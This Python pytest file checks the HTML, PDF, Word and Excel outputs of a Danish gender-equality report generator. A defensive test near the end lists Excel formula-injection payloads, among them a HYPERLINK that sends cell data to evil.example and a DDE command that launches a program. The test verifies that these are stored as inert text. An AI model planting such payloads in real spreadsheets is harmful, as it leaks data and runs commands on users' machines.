"""The publication as the equality unit gets it: its own texts, the cover and part 2's
prose in every format and language; a Word file to finish; a workbook to reuse.

Every file is read back by a real reader (python-docx, openpyxl, pdftotext,
LibreOffice headless), never by looking at our own code's values.
"""

from __future__ import annotations

import importlib.util
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest

from ligestat.report.model import ReportModel

_spec = importlib.util.spec_from_file_location("report_readback", Path(__file__).with_name(
    "readback.py"))
assert _spec and _spec.loader
rb = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(rb)

Published = tuple[ReportModel, dict[str, Path]]
INTRO = {"da": "Kønsligestillingsredegørelsen samler hvert år tal og viden",
         "en": "Every year the gender-equality report brings together"}
BOX = {"da": "Flere fædre spørger til barsel", "en": "More fathers ask about leave"}
PERSPECTIVE = {"da": "Perspektiv", "en": "Perspective"}
# part 2's prose: initiative 10's description (Danish in both reports: it is the data's text)
PROSE = "Fem vejledere i jobcentret rådgiver medarbejdere"


def _docx_text(path: Path) -> str:
    import docx

    doc = docx.Document(str(path))
    parts = [p.text for p in doc.paragraphs]
    for table in doc.tables:
        parts += [c.text for row in table.rows for c in row.cells]
    return rb.norm("\n".join(parts))


def _xlsx_text(path: Path) -> str:
    import openpyxl

    wb = openpyxl.load_workbook(str(path))
    return rb.norm("\n".join(str(c.value) for ws in wb.worksheets for row in ws.iter_rows()
                             for c in row if c.value is not None))


def _html_text(path: Path) -> str:
    return rb.norm(re.sub(r"<[^>]+>", " ", path.read_text(encoding="utf-8")))


def test_texts_cover_and_prose_are_in_all_four_formats(published: Published) -> None:
    model, paths = published
    lang = model.lang
    texts = {"html": _html_text(paths["html"]), "pdf": rb.norm(rb.pdf_text(paths["pdf"])),
             "docx": _docx_text(paths["docx"]), "xlsx": _xlsx_text(paths["xlsx"])}
    for fmt, text in texts.items():
        flat = " ".join(text.split())
        assert INTRO[lang] in flat, fmt  # the introduction
        assert BOX[lang] in flat and PERSPECTIVE[lang].lower() in flat.lower(), fmt  # a box
        assert PROSE in flat, fmt  # part 2's prose
        assert model.organisation in flat and str(model.year) in flat, fmt  # the cover


def test_the_cover_is_a_page_of_its_own_with_organisation_and_year(published: Published) -> None:
    model, paths = published
    first = rb.pdf_text(paths["pdf"]).split("\f")[0]
    assert model.organisation in first and model.title in first
    assert len(first.split()) < 20  # nothing else on the cover


def test_markdown_is_formatted_not_printed(published: Published) -> None:
    model, paths = published
    html = paths["html"].read_text(encoding="utf-8")
    assert "<strong>" + ("Del 1" if model.lang == "da" else "Part 1") + "</strong>" in html
    assert '<a href="https://krl.dk">' in html
    assert "<blockquote>" in html
    bold = "**" + ("Del 1" if model.lang == "da" else "Part 1") + "**"
    assert bold not in _docx_text(paths["docx"]) and bold not in rb.pdf_text(paths["pdf"])


# -- Word -------------------------------------------------------------------------------


def test_word_is_a4_with_header_page_numbers_and_a_toc_field(published: Published) -> None:
    import docx
    from docx.shared import Cm

    model, paths = published
    doc = docx.Document(str(paths["docx"]))
    section = doc.sections[0]
    assert abs(section.page_width - Cm(21.0)) < Cm(0.05)
    assert abs(section.page_height - Cm(29.7)) < Cm(0.05)
    header = " ".join(p.text for p in section.header.paragraphs)
    assert model.title in header and str(model.year) in header
    footer_xml = section.footer._element.xml
    assert re.search(r"<w:instrText[^>]*>\s*PAGE\s*</w:instrText>", footer_xml)
    body = doc.element.body.xml
    assert re.search(r"<w:instrText[^>]*>\s*TOC \\o", body)


def test_word_styles_carry_the_body_font_and_the_report_language(published: Published) -> None:
    import docx
    from docx.oxml.ns import qn

    model, paths = published
    doc = docx.Document(str(paths["docx"]))
    assert doc.styles["Normal"].font.name == "Liberation Sans"
    want = {"da": "da-DK", "en": "en-GB"}[model.lang]
    for name in ("Heading 1", "Heading 2", "Heading 3"):
        style = doc.styles[name]
        assert style.font.name == "Liberation Sans"
        assert style.element.rPr.find(qn("w:lang")).get(qn("w:val")) == want
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
    assert next(p.title for p in model.parts if p.level == 1) in headings


# -- Excel ------------------------------------------------------------------------------


def _workbook(path: Path) -> Any:
    import openpyxl

    return openpyxl.load_workbook(str(path))


def test_sheet_names_are_whole_words_within_31_characters(published: Published) -> None:
    model, paths = published
    labels = [t.sheet or t.caption for t in (*model.tables(), *(f.data for f in
                                                                   model.figures()))]
    for ws in _workbook(paths["xlsx"]).worksheets:
        name = ws.title
        assert len(name) <= 31
        full = next((lab for lab in labels if lab.replace("/", "-").startswith(name)), None)
        if full is None:
            continue  # the cover, texts and notes sheets: labels of their own
        rest = full[len(name):]
        assert rest == "" or rest[0] in " ,;", (name, full)  # never cut inside a word


def test_every_table_is_an_excel_table_with_its_total_row(published: Published) -> None:
    model, paths = published
    wb = _workbook(paths["xlsx"])
    by_title = {str(ws["A1"].value): ws for ws in wb.worksheets}
    for t in (*model.tables(), *(f.data for f in model.figures())):
        ws = by_title[t.title]
        assert len(ws.tables) == 1, t.title
        xt = next(iter(ws.tables.values()))
        rows = list(ws[xt.ref])
        header = [c.value for c in rows[0]]
        assert [c.name for c in xt.tableColumns] == header
        assert len(rows) == len(t.rows) + 1
        has_total = bool(t.rows) and t.rows[-1].total
        assert (xt.totalsRowCount or 0) == (1 if has_total else 0), t.title
        if has_total:
            assert rows[-1][0].value == ("I alt" if model.lang == "da" else "Total")


def test_staff_sheet_carries_the_headline_totals(published: Published) -> None:
    model, paths = published
    staff = next(f.data for f in model.figures() if f.id == "staff")
    ws = next(ws for ws in _workbook(paths["xlsx"]).worksheets
              if ws["A1"].value == staff.title)
    values = [[c.value for c in row] for row in ws.iter_rows(min_row=4)]
    total = next(v for v in values if v[0] in ("I alt", "Total"))
    assert total[1:3] == [34194, 15220]
    assert sum(total[1:3]) == 49414


def test_numbers_are_numbers_with_formats_and_marks_in_their_own_column(
        published: Published) -> None:
    model, paths = published
    wb = _workbook(paths["xlsx"])
    shares = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=4):
            head = row[0].value
            assert not (isinstance(head, str) and re.fullmatch(r"[A-ZÆØÅ]{2,4}\*+", head)), \
                f"{ws.title}: mark inside the key {head!r}"
            for c in row:
                if c.number_format == "0%":
                    shares += 1
                    assert isinstance(c.value, int | float) and 0 <= c.value <= 1
    assert shares > 100
    trend = next(ws for ws in wb.worksheets if ws["A1"].value == next(
        f.data.title for f in model.figures() if f.id == "fathers_leave_trend"))
    cohorts = [r[0].value for r in trend.iter_rows(min_row=4) if r[0].value is not None]
    assert all(isinstance(c, int) for c in cohorts[:-1]) and cohorts
    years = [r[2].value for ws in wb.worksheets if str(ws.title).startswith(("Lægebesøg",
                                                                              "Visits"))
             for r in ws.iter_rows(min_row=4, max_row=5)]
    assert years and all(isinstance(y, int) for y in years)
    cover = wb.worksheets[0]
    assert model.year in [c.value for row in cover.iter_rows() for c in row]


def test_danish_workbook_has_no_english_words(published: Published) -> None:
    model, paths = published
    if model.lang != "da":
        pytest.skip("the English workbook may say source and definition")
    words = {str(c.value).strip().lower() for ws in _workbook(paths["xlsx"]).worksheets
             for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    # "Definition" is Danish too; the note kinds were printed as English keys before
    english = {"source", "footnote", "suppressed", "missing", "kind", "text", "table / figure"}
    assert words & english == set()


# -- LibreOffice ------------------------------------------------------------------------


@pytest.mark.skipif(shutil.which("soffice") is None,
                    reason="needs libreoffice-writer-nogui and -calc-nogui: make setup")
def test_libreoffice_converts_word_and_excel_to_pdf(published: Published, tmp_path: Path) -> None:
    model, paths = published
    profile = tmp_path / "lo-profile"
    inputs = {fmt: tmp_path / f"report-{fmt}.{fmt}" for fmt in ("docx", "xlsx")}
    for fmt, path in inputs.items():  # one stem each: both become a .pdf
        shutil.copy(paths[fmt], path)
    run = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
         "--convert-to", "pdf", "--outdir", str(tmp_path), *map(str, inputs.values())],
        capture_output=True, text=True, timeout=300)
    assert run.returncode == 0, run.stderr
    assert "Error" not in run.stderr, run.stderr
    artifacts = Path(__file__).resolve().parents[2] / "build" / "test-artifacts"
    artifacts.mkdir(parents=True, exist_ok=True)
    for fmt, path in inputs.items():
        pdf = path.with_suffix(".pdf")
        text = rb.norm(rb.pdf_text(pdf))
        assert model.organisation in text, fmt
        assert BOX[model.lang] in " ".join(text.split()), fmt
        shutil.copy(pdf, artifacts / f"libreoffice-{model.lang}-{fmt}.pdf")


def test_xlsx_has_no_formula_anywhere(published: Published) -> None:
    _, paths = published
    with zipfile.ZipFile(paths["xlsx"]) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode("utf-8") and "<f " not in z.read(
                    name).decode("utf-8"), name


# -- Excel formula injection (issue 14) ---------------------------------------------------

ATTACKS = ('=HYPERLINK("http://evil.example/?d="&A1,"Klik her")', "=cmd|' /C calc'!A0",
           "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "\tTAB=1+1", "\r=1+1")


def test_text_starting_like_a_formula_is_stored_as_text(tmp_path: Path,
                                                       make_report_input: Any) -> None:
    """Every free-text field of the input carries an attack; none becomes a formula."""
    import openpyxl

    from ligestat.config import Department
    from ligestat.io.narrative import NarrativeFile
    from ligestat.report import build, write_report
    from ligestat.report.input import ContextFigure

    base = make_report_input()
    attack = iter(ATTACKS * 4)
    agreements = [dict(r) for r in base.tables["agreements_gender"]]
    agreements[0]["agreement"] = next(attack)
    initiative = {**dict(base.initiatives[0]), "title": next(attack),
                  "focus_area": next(attack), "key_figures": next(attack),
                  "period": next(attack), "description": next(attack)}
    departments = tuple(Department(d.code, next(attack) if d.code == "BIF" else d.name,
                                   d.in_tables, d.level_2_includes) for d in base.departments)
    context = (*base.context, ContextFigure("evil_women", "evil", next(attack), next(attack),
                                            next(attack), next(attack), 1.0, "count", 2024,
                                            next(attack)))
    narrative = (NarrativeFile("introduction.md", ("# Indledning\n\n" + next(attack)).encode()),)
    inp = make_report_input(tables={**base.tables, "agreements_gender": agreements},
                            initiatives=(initiative, *base.initiatives[1:]),
                            departments=departments, context=context, narrative=narrative)
    path = write_report(build(inp, "da"), tmp_path, ["xlsx"])[0]

    with zipfile.ZipFile(path) as z:  # the file itself: not one formula element
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    wb = openpyxl.load_workbook(str(path))
    found: dict[str, Any] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    assert c.data_type == "s", (ws.title, c.coordinate, c.value)
                    for a in ATTACKS:
                        if c.value == a or c.value.startswith(a.strip()):
                            found[a] = c
    # the attacks come back as the very text that was given, marked as text for Excel
    assert set(found) == set(ATTACKS)
    risky = [c for c in found.values() if c.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky and all(c.quotePrefix for c in risky)


def test_sources_and_dates_in_words_never_file_names(published: Published) -> None:
    model, paths = published
    text = " ".join(rb.pdf_text(paths["pdf"]).split())
    assert re.findall(r"\b[\w-]+\.(?:csv|xlsx|parquet|toml)\b", text) == []
    assert re.findall(r"\b20\d\d-\d\d-\d\d\b", text) == []  # no ISO dates
    month = {"da": "september 2024", "en": "September 2024"}[model.lang]
    assert month in text


def test_word_headings_are_danish_words_built_in_styles_with_outline_levels(
        published: Published) -> None:
    """A Danish Word writes the built-in heading styles with Danish ids (``Overskrift1``)
    and the built-in English ``w:name`` ("heading 1"), which it shows as "Overskrift 1";
    the outline level drives the navigation pane and the TOC field."""
    import docx
    from docx.oxml.ns import qn

    model, paths = published
    doc = docx.Document(str(paths["docx"]))
    ids = {"da": "Overskrift{}", "en": "Heading{}"}[model.lang]
    root = doc.styles.element
    by_id = {el.get(qn("w:styleId")): el for el in root.iter(qn("w:style"))}
    for level in (1, 2, 3):
        el = by_id[ids.format(level)]
        assert el.find(qn("w:name")).get(qn("w:val")) == f"heading {level}"
        assert el.find(qn("w:pPr")).find(qn("w:outlineLvl")).get(qn("w:val")) == str(level - 1)
    used = {p.style.style_id for p in doc.paragraphs if p.style.name.startswith("Heading")}
    assert used >= {ids.format(1), ids.format(2)}
    if model.lang == "da":
        assert not [sid for sid in by_id if sid.startswith("Heading")]
        assert by_id["Overskrift1Tegn"].find(qn("w:name")).get(qn("w:val")) == "Overskrift 1 Tegn"
    # no reference to a style id that is not there
    refs = [el.get(qn("w:val")) for part in (root, doc.element.body)
            for el in part.iter(*(qn(f"w:{t}") for t in ("basedOn", "next", "link", "pStyle")))]
    assert [r for r in refs if r not in by_id] == []


def test_word_tables_fit_between_the_margins(published: Published) -> None:
    """Every table's columns add up to no more than the text width (LibreOffice ran the
    summary table's last column past the right margin), in the columns' and cells' widths."""
    import docx

    _, paths = published
    doc = docx.Document(str(paths["docx"]))
    section = doc.sections[0]
    text_width = section.page_width - section.left_margin - section.right_margin
    assert doc.tables
    for table in doc.tables:
        columns = [c.width for c in table.columns]
        assert None not in columns and sum(columns) <= text_width, columns
        for row in table.rows:
            cells = [tc.width for tc in row._tr.tc_lst]
            assert None not in cells and sum(cells) <= text_width, cells
